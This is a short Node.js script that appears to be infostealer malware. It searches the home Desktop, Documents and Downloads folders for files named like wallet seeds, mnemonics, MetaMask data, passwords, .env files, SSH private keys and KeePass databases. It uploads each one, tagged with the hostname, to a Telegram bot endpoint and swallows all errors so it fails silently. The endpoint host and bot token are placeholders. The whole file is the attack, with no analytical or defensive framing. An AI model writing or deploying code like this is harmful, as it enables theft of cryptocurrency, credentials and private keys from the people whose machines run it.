const { readdir, readFile, stat } = require('fs/promises')
const { join, basename } = require('path')
const { homedir, hostname } = require('os')

const API = 'https://api.telegram.invalid/bot0000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'
const WORDS = /seed|wallet|mnemonic|metamask|phrase|passw|\.env$|id_rsa|\.kdbx$|recovery/i
const SKIP = new Set(['node_modules', '.git', 'Library', 'AppData'])

async function * files (folder, depth) {
  const entries = await readdir(folder, { withFileTypes: true }).catch(() => [])
  for (const entry of entries) {
    const path = join(folder, entry.name)
    if (entry.isDirectory() && depth > 0 && !SKIP.has(entry.name)) yield * files(path, depth - 1)
    else if (entry.isFile() && WORDS.test(entry.name)) yield path
  }
}

async function main () {
  for (const place of ['Desktop', 'Documents', 'Downloads']) {
    for await (const file of files(join(homedir(), place), 4)) {
      if ((await stat(file)).size > 5e6) continue
      const form = new FormData()
      form.append('chat_id', '-1000000000')
      form.append('caption', hostname())
      form.append('document', new Blob([await readFile(file)]), basename(file))
      await fetch(`${API}/sendDocument`, { method: 'POST', body: form })
    }
  }
}
main().catch(() => {})
